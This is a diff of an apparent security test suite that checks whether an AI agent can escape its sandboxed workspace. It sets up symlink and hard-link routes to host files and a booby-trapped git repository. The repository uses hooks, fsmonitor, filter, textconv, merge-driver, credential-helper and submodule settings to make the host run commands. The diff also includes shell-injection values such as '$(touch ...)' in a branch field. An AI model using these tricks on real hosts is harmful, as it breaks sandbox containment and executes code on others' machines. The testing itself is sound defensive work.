@@ -9,22 +9,24 @@ import { newWord } from "./targets.ts";
 const AREA = "files";
 const BAIT = "a file of the host";
 
-/** Links to what lies outside, to the top, to each other, through folders, and a hard link. */
+/** Links to what lies outside, to the top, to each other, through folders, and a hard link to such a link. */
 const links = (arena: Arena) => `cd /workspace/repo
 ln -sfn ${arena.folder}/host-file.txt link; ln -sfn ${arena.folder} folder-link; ln -sfn / top
 ln -sfn ../../../../../../../../..${arena.folder}/host-file.txt relative; ln -sfn loop-b loop-a; ln -sfn loop-a loop-b
-mkdir -p real && ln -sfn ../folder-link real/through; ln -f /workspace/../etc/hostname hard 2>/dev/null
-ln -f ${arena.folder}/host-file.txt hard2 2>/dev/null; true`;
+mkdir -p real && ln -sfn ../folder-link real/through
+rm -f hard; ln -P link hard`;
 
 const LINKED = [
   "link",
   "relative",
   "hard",
-  "hard2",
   "folder-link/host-file.txt",
   "real/through/host-file.txt",
   "loop-a",
 ];
+
+/** The two that lead through a folder are refused as paths. */
+const LINKS_SEEN = LINKED.length - 2;
 
 /** Asks for each path as a file, whole, and as a difference, and gives all that came back. */
 async function askFor(arena: Arena, paths: string[], taskId = arena.agent.taskId): Promise<string> {
@@ -77,26 +79,45 @@ const TRAVERSALS = (arena: Arena) => {
   ];
 };
 
-/** What a repository itself can hold to make git run something. It leaves a word in a file on the machine it runs on. */
+const HOOKS = "pre-commit post-commit post-checkout pre-push";
+
+/** Ways of git to run a program that a repository or its configuration names. Each leaves its name where it ran. */
+const VECTORS = [
+  ...["hook", "fsmonitor", "editor", "ssh", "external-diff", "textconv", "merge-driver", "clean", "smudge"],
+  ...["submodule", "credential-helper", "alias"],
+];
+
+/** What a repository itself can hold to make git run something. */
 const evilTree = (folder: string, mark: string) => `cd ${folder}
-mkdir -p hooks; for hook in ${HOOKS}; do printf '#!/bin/sh\\necho hook >> ${mark}\\n' > hooks/$hook; chmod +x hooks/$hook; done
-printf '* filter=evil diff=evil merge=evil\\n' > .gitattributes
-printf '[submodule "x"]\\n\\tpath = x\\n\\turl = http://exfiltrated.test/x\\n' > .gitmodules
-printf '[core]\\n\\thooksPath = hooks\\n' > .gitconfig
+mkdir -p hooks; for hook in ${HOOKS}; do printf '#!/bin/sh\necho hook >> ${mark}\n' > hooks/$hook; chmod +x hooks/$hook; done
+printf '* filter=evil diff=evil merge=evil\n' > .gitattributes
+printf '[submodule "x"]\n\tpath = x\n\turl = ./x\n' > .gitmodules
+printf '[core]\n\thooksPath = hooks\n' > .gitconfig
 git update-index --add --cacheinfo 160000,$(git rev-parse HEAD),x
 echo evil >> README.md; git add -A . ':!x'; git -c user.name=a -c user.email=a@example.com commit -q -m evil`;
 
 /** What the agent can do to its own clone's configuration, on top of that. */
 const evilConfig = (folder: string, mark: string) => `cd ${folder}
-run="sh -c 'echo ran >> ${mark}'"; pass="sh -c 'echo ran >> ${mark}; cat'"
+ran() { printf "sh -c 'echo $1 >> ${mark}' #"; }; passing() { printf "sh -c 'echo $1 >> ${mark}; cat'"; }
 for hook in ${HOOKS}; do mkdir -p .git/hooks; cp hooks/$hook .git/hooks/$hook; done
-git config core.hooksPath hooks; git config core.fsmonitor "$run #"; git config core.pager "$run #"; git config core.editor "$run #"
-git config core.sshCommand "$run #"; git config diff.external "$run #"; git config diff.evil.textconv "$pass #"
-git config merge.evil.driver "$run"; git config filter.evil.clean "$pass"; git config filter.evil.smudge "$pass"; git config protocol.ext.allow always
+git config core.hooksPath hooks; git config core.fsmonitor "$(ran fsmonitor)"; git config core.editor "$(ran editor)"
+git config core.sshCommand "$(ran ssh)"; git config diff.external "$(ran external-diff)"; git config diff.evil.textconv "sh -c 'echo textconv >> ${mark}; cat $0'"
+git config merge.evil.driver "sh -c 'echo merge-driver >> ${mark}'"; git config filter.evil.clean "$(passing clean)"
+git config filter.evil.smudge "$(passing smudge)"; git config protocol.ext.allow always
+git config credential.helper "!sh -c 'echo credential-helper >> ${mark}'"; git config alias.st "!echo alias >> ${mark}"
+git config submodule.x.url "$PWD/x"; git config submodule.x.active true
+git config submodule.x.update "!sh -c 'echo submodule >> ${mark}' #"
 echo more >> README.md; true`;
 
-const HOOKS =
-  "pre-commit post-commit post-checkout pre-push post-merge post-index-change pre-receive update post-receive";
+/** What a host does that works in a tree it was given, as anybody would. */
+const naiveWork = (
+  folder: string,
+) => `cd ${folder}; git config user.name h; git config user.email h@example.com
+git status; git st; git diff; git diff --no-ext-diff; git commit -q -am work; git commit -q --amend
+git checkout -q -b other HEAD^; echo theirs >> README.md; git -c core.editor=true commit -q -am theirs; git -c core.editor=true merge -
+git checkout -q -f -; rm -f README.md; git checkout -q -- README.md
+git fetch ssh://127.0.0.1/none; printf 'protocol=https\nhost=example.invalid\n\n' | git credential fill
+git clone -q . x; git update-index --add --cacheinfo 160000,$(git rev-list --max-parents=0 HEAD | head -1),x; git submodule update`;
 
 export const filesAttacks: Attack[] = [
   {
@@ -106,8 +127,8 @@ export const filesAttacks: Attack[] = [
     async try(arena) {
       await arena.agent.run(links(arena));
       const answers = await askFor(arena, LINKED);
-      if (!answers.includes('"kind":"symlink"'))
-        throw new Error(`no link was seen: ${answers.slice(0, 300)}`);
+      const seen = answers.split('"kind":"symlink"').length - 1;
+      if (seen < LINKS_SEEN) throw new Error(`${seen} links were seen: ${answers.slice(0, 300)}`);
       // The link's own text names the file, and is no file's content.
       return verdictOf(arena, answers);
     },
@@ -153,26 +174,29 @@ export const filesAttacks: Attack[] = [
       const { taskId, run } = await openAgent(arena.world, arena.engine);
       await run(`${evilTree("/workspace/repo", mark)}; git push -q origin HEAD`);
       await run(evilConfig("/workspace/repo", mark));
-      const looked = await askFor(arena, [".gitattributes", "README.md", "?"], taskId);
+      const looked = await askFor(arena, [".gitattributes", ".gitmodules", "README.md", "x", "?"], taskId);
       await arena.world.client.fork(taskId, { prompt: "Go on. [scenario:say-hello]" }).then(
         (fork) => arena.world.ended(fork.id),
         () => undefined,
       );
       if (!looked.includes("filter=evil")) throw new Error(`not looked at: ${looked.slice(0, 300)}`);
-      const ran = await Bun.file(mark).exists();
+      const ran = await ranBy(mark);
       await arena.world.client.archive(taskId);
-      return { succeeded: ran, evidence: ran ? "a program ran on the host" : "nothing ran on the host" };
+      return { succeeded: ran.length > 0, evidence: ran.join(" ") || "nothing ran on the host" };
     },
     async control(arena) {
       const mark = join(arena.folder, `ran-${newWord()}`);
       const folder = await mkdtemp(join(arena.folder, "evil-"));
       await git(["clone", "-q", arena.world.sample.path, folder]);
       await shell(`${evilTree(folder, mark)}; ${evilConfig(folder, mark)}`);
-      // The most harmless thing that a host can do with it.
-      await shell(`cd ${folder} && git status && git diff`);
-      const ran = await Bun.file(mark).exists();
+      await shell(naiveWork(folder));
+      const ran = await ranBy(mark);
       await rm(mark, { force: true });
-      return { succeeded: ran, evidence: ran ? "git status ran a program" : "nothing ran" };
+      const missing = VECTORS.filter((vector) => !ran.includes(vector));
+      return {
+        succeeded: missing.length === 0,
+        evidence: `ran: ${ran.join(" ")}; did not: ${missing.join(" ") || "none"}`,
+      };
     },
   },
   {
@@ -228,6 +252,14 @@ function injections(mark: string, repository: string): { repository: string; bas
     { repository, baseBranch: `main;touch ${mark}` },
     { repository, baseBranch: `$(touch ${mark})` },
   ];
+}
+
+/** The ways that have left their name. */
+async function ranBy(mark: string): Promise<string[]> {
+  const file = Bun.file(mark);
+  if (!(await file.exists())) return [];
+  const lines = (await file.text()).split("\n");
+  return [...new Set(lines.filter((line) => line !== ""))];
 }
 
 async function shell(script: string): Promise<void> {
